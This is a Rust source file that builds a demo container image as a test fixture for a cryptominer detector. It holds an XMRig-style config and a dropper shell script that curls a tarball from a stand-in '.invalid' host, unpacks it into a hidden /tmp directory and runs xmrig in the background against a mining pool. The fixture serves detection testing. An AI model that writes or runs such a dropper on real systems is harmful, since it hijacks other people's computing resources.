//! The demo image: miner evidence with no miner in it.
//!
//! It holds what the detectors look for besides a binary: an XMRig-style
//! config, and a dropper script that a later layer deletes (so it is still
//! shipped). The URL is under `.invalid` and never resolves; the wallet is a
//! checksum-valid Monero address built from made-up key bytes, so nobody holds
//! its keys; `/bin/hello` is an inert [`tiny_elf`].

use serde::Serialize;

use crate::elf::tiny_elf;
use crate::image::{ImageSpec, Platform};
use crate::layer::{Entry, Layer};

/// The wallet in the demo: a mainnet primary address (network byte 18, valid
/// Keccak checksum) whose "keys" are the Keccak-256 of the phrases
/// `minehound demo spend key` and `minehound demo view key`: it decodes like a
/// real wallet, but no one holds its keys.
pub const DEMO_MONERO_ADDRESS: &str = "41vHA8Yx8aAV78UZXmhdJ1T8iX8Tyzaikg2ntQ15VHR6fFJDjJpZctt27AoKa1DVJ727yPDqPa2wLh1hZMEUbB1RHwGN28L";
/// The mining pool the demo's config and script name.
pub const DEMO_POOL_URL: &str = "stratum+tcp://pool.supportxmr.com:3333";
/// Path of the miner config (present in the final filesystem).
pub const DEMO_CONFIG_PATH: &str = "/opt/app/config.json";
/// Path of the dropper script (added by layer 1, deleted by layer 2).
pub const DEMO_DROPPER_PATH: &str = "/usr/local/bin/start.sh";
/// The tag the binary gives the demo in an OCI layout.
pub const DEMO_TAG: &str = "latest";
/// The repo tag the binary gives the demo in docker archives.
pub const DEMO_REPO_TAG: &str = "minehound-demo:latest";

/// The demo image: linux/amd64, three gzip layers (base, app, cleanup).
pub fn demo_image() -> ImageSpec {
    let base = Layer::gzip(
        "ADD rootfs.tar /",
        vec![
            Entry::dir("/bin"),
            Entry::executable("/bin/hello", tiny_elf(b"hello")),
            Entry::dir("/etc"),
            Entry::file("/etc/os-release", OS_RELEASE),
            Entry::dir("/usr"),
            Entry::dir("/usr/share"),
            Entry::dir("/usr/share/doc"),
            Entry::file("/usr/share/doc/readme.txt", README),
        ],
    );
    let app = Layer::gzip(
        "COPY app/ /",
        vec![
            Entry::dir("/opt"),
            Entry::dir("/opt/app"),
            Entry::file(DEMO_CONFIG_PATH, miner_config()),
            Entry::dir("/usr"),
            Entry::dir("/usr/local"),
            Entry::dir("/usr/local/bin"),
            Entry::executable(DEMO_DROPPER_PATH, dropper_script()),
        ],
    );
    let cleanup = Layer::gzip(
        "RUN rm /usr/local/bin/start.sh",
        vec![
            Entry::dir("/usr"),
            Entry::dir("/usr/local"),
            Entry::dir("/usr/local/bin"),
            Entry::Whiteout {
                path: DEMO_DROPPER_PATH.to_owned(),
            },
        ],
    );
    ImageSpec {
        layers: vec![base, app, cleanup],
        platform: Platform::linux("amd64", None),
        entrypoint: Some(vec!["/bin/hello".to_owned()]),
        cmd: None,
        env: vec!["PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin".to_owned()],
        working_dir: None,
    }
}

const OS_RELEASE: &str = "NAME=\"minehound demo\"\nID=minehound-demo\nVERSION_ID=1\n";
const README: &str = "minehound demo image: a test fixture with miner-like files and no miner.\n";

/// XMRig's config shape (2.x style, `algo` at the top). Fields in key order.
#[derive(Serialize)]
struct MinerConfig {
    algo: &'static str,
    cpu: Cpu,
    #[serde(rename = "donate-level")]
    donate_level: u32,
    pools: [Pool; 1],
}

#[derive(Serialize)]
struct Cpu {
    enabled: bool,
}

#[derive(Serialize)]
struct Pool {
    pass: &'static str,
    url: &'static str,
    user: &'static str,
}

fn miner_config() -> Vec<u8> {
    let config = MinerConfig {
        algo: "rx/0",
        cpu: Cpu { enabled: true },
        donate_level: 1,
        pools: [Pool {
            pass: "x",
            url: DEMO_POOL_URL,
            user: DEMO_MONERO_ADDRESS,
        }],
    };
    let mut json = serde_json::to_vec_pretty(&config).expect("the miner config serializes");
    json.push(b'\n');
    json
}

fn dropper_script() -> String {
    format!(
        "#!/bin/sh\n\
         curl -sL https://example.invalid/xmrig.tar.gz -o /tmp/x.tgz\n\
         mkdir -p /tmp/.x\n\
         tar xzf /tmp/x.tgz -C /tmp/.x\n\
         chmod +x /tmp/.x/xmrig\n\
         /tmp/.x/xmrig -o {DEMO_POOL_URL} -u {DEMO_MONERO_ADDRESS} --donate-level 1 -B\n"
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn wallet_has_a_monero_address_shape() {
        const BASE58: &str = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
        assert_eq!(DEMO_MONERO_ADDRESS.len(), 95);
        assert!(DEMO_MONERO_ADDRESS.starts_with('4'));
        assert!(DEMO_MONERO_ADDRESS.chars().all(|c| BASE58.contains(c)));
    }

    #[test]
    fn config_and_script_carry_the_evidence() {
        let config: serde_json::Value = serde_json::from_slice(&miner_config()).unwrap();
        assert_eq!(config["algo"], "rx/0");
        assert_eq!(config["donate-level"], 1);
        assert_eq!(config["cpu"]["enabled"], true);
        assert_eq!(config["pools"][0]["url"], DEMO_POOL_URL);
        assert_eq!(config["pools"][0]["user"], DEMO_MONERO_ADDRESS);
        assert_eq!(config["pools"][0]["pass"], "x");

        let script = dropper_script();
        assert!(script.starts_with("#!/bin/sh\ncurl -sL https://example.invalid/"));
        assert!(script.contains(&format!(
            "-o {DEMO_POOL_URL} -u {DEMO_MONERO_ADDRESS} --donate-level 1 -B"
        )));
    }
}
